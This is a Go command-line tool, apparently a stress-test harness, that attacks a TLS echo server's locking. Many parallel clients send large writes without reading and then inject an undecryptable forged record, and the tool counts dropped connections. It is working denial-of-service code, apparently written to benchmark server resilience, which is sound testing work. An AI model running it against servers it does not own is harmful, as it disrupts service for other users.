// Command tlsattack attacks the locks of a TLS server that sends back what it
// is sent, until it is ended, and then prints how often.
//
//	tlsattack [-at-once 1] [-every 20ms] [-hold 1s] [-garbage=false] ADDRESS
//
// An attacker shakes hands, sends much and reads nothing, so that a Write of
// the server waits, and then sends a record that is garbage. The Read beside
// that Write has an alert to send. After the time of -hold the attacker reads,
// and counts the attack if the server has ended the connection. Without garbage
// attackers only shake hands and close: as many handshakes for the server.
//
// bench/tls.sh measures other clients of the server meanwhile.
package main

import (
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"sync/atomic"
	"syscall"
	"time"
)

const (
	// much is more than the server's and this side's kernel take, and less than
	// what the server reads ahead.
	much = 256 << 10
	// pause is for the server to write until it waits.
	pause = 5 * time.Millisecond
	// patience is how long a handshake, and the end of a connection, may take.
	patience = 5 * time.Second
	// garbage is a record that cannot be decrypted.
	garbage = "\x17\x03\x03\x00\x20this record was never encrypted."
)

func main() {
	atOnce := flag.Int("at-once", 1, "attackers at a time")
	every := flag.Duration("every", 20*time.Millisecond, "between two attacks")
	hold := flag.Duration("hold", time.Second, "how long the server's Write waits")
	withGarbage := flag.Bool("garbage", true, "attack; else only shake hands")
	flag.Parse()
	if flag.NArg() != 1 || *atOnce < 1 || *every <= 0 {
		flag.Usage()
		os.Exit(2)
	}
	visit := handshake
	if *withGarbage {
		visit = func(address string) error {
			return attack(address, func() { time.Sleep(*hold) })
		}
	}
	over := make(chan os.Signal, 1)
	signal.Notify(over, syscall.SIGINT, syscall.SIGTERM)
	var done, failed atomic.Int64
	for tick := time.Tick(*every); ; {
		select {
		case <-over:
			fmt.Println(done.Load(), failed.Load())
			return
		case <-tick:
		}
		for range *atOnce {
			go func() {
				if err := visit(flag.Arg(0)); err == nil {
					done.Add(1)
				} else if !errors.Is(err, syscall.ECONNREFUSED) { // it does not serve yet
					failed.Add(1)
				}
			}()
		}
	}
}

// handshake shakes hands and closes.
func handshake(address string) error {
	raw, c, err := dial(address)
	if err != nil {
		return err
	}
	defer raw.Close()
	return c.Handshake()
}

// attack returns nil if the server has ended the connection. Its Write waits
// until hold returns.
func attack(address string, hold func()) error {
	raw, c, err := dial(address)
	if err != nil {
		return err
	}
	defer raw.Close()
	if _, err := c.Write(make([]byte, much)); err != nil {
		return err
	}
	time.Sleep(pause)
	if _, err := io.WriteString(raw, garbage); err != nil {
		return err
	}
	hold()
	raw.SetDeadline(time.Now().Add(patience))
	if _, err := io.Copy(io.Discard, raw); errors.Is(err, os.ErrDeadlineExceeded) {
		return err
	}
	return nil
}

func dial(address string) (net.Conn, *tls.Conn, error) {
	raw, err := net.Dial("tcp", address)
	if err != nil {
		return nil, nil, err
	}
	raw.SetDeadline(time.Now().Add(patience))
	raw.(*net.TCPConn).SetReadBuffer(4 << 10)
	return raw, tls.Client(raw, &tls.Config{InsecureSkipVerify: true}), nil
}
